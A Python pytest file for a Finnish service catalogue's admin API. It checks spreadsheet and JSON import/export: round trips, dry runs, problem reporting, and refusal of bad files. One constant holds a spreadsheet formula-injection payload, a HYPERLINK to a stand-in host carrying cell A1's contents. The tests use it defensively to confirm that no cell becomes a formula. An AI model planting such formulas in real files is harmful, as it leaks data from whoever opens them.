"""The catalogue as files: a round trip changes nothing, a dry run tells everything, no cell is a formula."""

import json
from io import BytesIO

import pytest
from openpyxl import load_workbook

from api.admin import spreadsheet
from domain.tables import TABLES
from tests.api.console import ADMIN, Console, console
from tests.api.house import House

pytestmark = pytest.mark.anyio
XLSX = {"Content-Type": spreadsheet.MEDIA_TYPE}
FORMULA = '=HYPERLINK("http://x.invalid/?"&A1;"Avaa")'


async def bring(editor: Console, draft: int, content: bytes, *, dry: bool = True, table: bool = True) -> dict:
    headers = XLSX if table else {"Content-Type": "application/json"}
    path = f"/drafts/{draft}/import?dry_run={str(dry).lower()}"
    return await editor.ask("POST", path, content=content, headers=headers)


async def test_a_round_trip_changes_nothing(house: House) -> None:
    editor = await console(house, "Eeva")
    draft = (await editor.draft())["id"]
    for name, table in (("export.xlsx", True), ("export.json", False)):
        content = await editor.get(f"/{name}")
        taken = content if isinstance(content, bytes) else json.dumps(content).encode()
        found = await bring(editor, draft, taken, dry=False, table=table)
        assert (found["changes"], found["saved"], found["comparison"]) == (0, False, [])
        assert not [one for one in found["problems"] if one["severity"] == "error"]
    assert (await editor.get(f"/drafts/{draft}"))["revision"] == 0


async def test_a_filled_in_spreadsheet_is_tried_first_and_then_saved(house: House) -> None:
    editor = await console(house, "Eeva")
    draft = (await editor.draft())["id"]
    book = load_workbook(BytesIO(await editor.get("/export.xlsx")))
    services, lines = book["Palvelut"], book["Ehdot"]
    head = {cell.value: cell.column for cell in services[1]}
    services.cell(2, head["nimi"]).value = "Uusi nimi"
    services.cell(2, head["voimassa asti"]).value = "31.12.2027"
    columns = {cell.value: cell.column for cell in lines[1]}
    row = next(
        number
        for number in range(2, lines.max_row)
        if lines.cell(number, columns["kohteen tunniste"]).value == "etsiva-nuorisotyo"
        and lines.cell(number, columns["vertailu"]).value == "enintään"
    )
    lines.cell(row, columns["arvo"]).value = 25
    file = BytesIO()
    book.save(file)
    dry = await bring(editor, draft, file.getvalue())
    assert (dry["changes"], dry["saved"]) == (2, False)
    texts = [line["text_fi"] for one in dry["comparison"] for line in one["lines"]]
    assert "voimassa asti: lisätty 2027-12-31" in texts
    assert "Ehto muuttui: Ikä: enintään 28 vuotta → Ikä: enintään 25 vuotta" in texts
    assert (await editor.get(f"/drafts/{draft}"))["changes"] == 0
    saved = await bring(editor, draft, file.getvalue(), dry=False)
    assert saved["saved"]
    assert (await editor.get(f"/drafts/{draft}"))["changes"] == 2


async def test_every_problem_of_a_file_is_told_and_nothing_saved(house: House) -> None:
    editor = await console(house, "Eeva")
    draft = (await editor.draft())["id"]
    book = load_workbook(BytesIO(await editor.get("/export.xlsx")))
    book["Palvelut"].cell(1, 2).value = "jokin muu"
    book["Ehdot"].cell(2, 7).value = "suunnilleen"
    book.create_sheet("Omat muistiinpanot")
    file = BytesIO()
    book.save(file)
    found = await bring(editor, draft, file.getvalue(), dry=False)
    codes = {one["code"] for one in found["problems"]}
    assert {"unknown_column", "unreadable_cell", "unknown_sheet"} <= codes
    cell = next(one for one in found["problems"] if one["code"] == "unreadable_cell")
    assert (cell["sheet"], cell["row"]) == ("Ehdot", 2)
    assert not found["saved"]
    assert (await editor.get(f"/drafts/{draft}"))["revision"] == 0


@pytest.mark.parametrize("content", [b"PK nothing", b"", b"\x00" * 100])
async def test_what_is_no_spreadsheet_is_refused(house: House, content: bytes) -> None:
    editor = await console(house, "Eeva")
    draft = (await editor.draft())["id"]
    path = f"{ADMIN}/drafts/{draft}/import"
    assert (await editor.http.post(path, content=content, headers=XLSX)).json()["code"] == "unreadable_file"
    other = {"Content-Type": "application/json"}
    assert (await editor.http.post(path, content=b"[1", headers=other)).json()["code"] == "unreadable_file"
    assert (await editor.http.post(path, content=b"a", headers={"Content-Type": "text/csv"})).status_code == 415


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2", "@SUM(A1)", "\t=1", "'=1", "'plain", "-- väliviivat"])
def test_no_cell_is_a_formula_and_the_text_comes_back(text: str) -> None:
    tables = {name: [] for name in TABLES} | {"texts": [{"id": "a", "fi": text, "selko": None}]}
    content = spreadsheet.write(tables)
    cell = load_workbook(BytesIO(content))["Tekstit"].cell(2, 2)
    assert cell.data_type == "s"
    assert str(cell.value)[0] not in "=+-@\t\r"
    read = spreadsheet.read(content)
    assert read.tables["texts"][0]["fi"] == text
    assert read.wrong == []


async def test_a_formula_saved_by_an_editor_is_text_in_every_export(house: House) -> None:
    editor = await console(house, "Eeva")
    draft = (await editor.draft())["id"]
    await editor.change(draft, "ohjaamo", name_fi=FORMULA, summary_fi="@SUM(A1)")
    content = await editor.get(f"/export.xlsx?draft={draft}")
    for sheet in load_workbook(BytesIO(content)).worksheets:
        assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    again = (await editor.draft())["id"]
    found = await bring(editor, again, content)
    assert FORMULA in [line["after_fi"] for one in found["comparison"] for line in one["lines"]]


async def test_services_for_other_systems(house: House) -> None:
    auditor = await console(house, "Auli", "auditor")
    found = await auditor.get("/export/hsds.json")
    assert found["total_items"] == len(found["contents"]) > 90
